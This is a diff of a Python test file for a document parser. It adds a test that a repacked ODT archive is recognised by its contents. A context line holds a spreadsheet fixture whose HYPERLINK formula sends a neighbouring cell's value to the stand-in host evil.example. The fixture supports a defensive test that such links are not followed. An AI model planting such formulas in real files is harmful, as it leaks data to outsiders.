@@ -328,6 +328,13 @@ def test_a_hostile_file_of_each_kind_is_read_or_refused_in_a_moment(name: str, c
     assert len(found) < 2_000_000
 
 
+def test_an_archive_that_was_packed_anew_is_known_by_what_it_says_inside() -> None:
+    first = "application/vnd.oasis.opendocument.text"
+    body = f"<office:document-content {NAMES}><office:body><office:text><text:p>Words</text:p></office:text></office:body></office:document-content>"
+
+    require(material(archive({"content.xml": body, "mimetype": first}), "a.odt"), ("Words",))
+
+
 def test_links_and_formulas_of_a_sheet_are_not_followed() -> None:
     evil = xlsx(
         '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/?x="&amp;B1,"Grades")</f><v>Grades</v></c></row>',
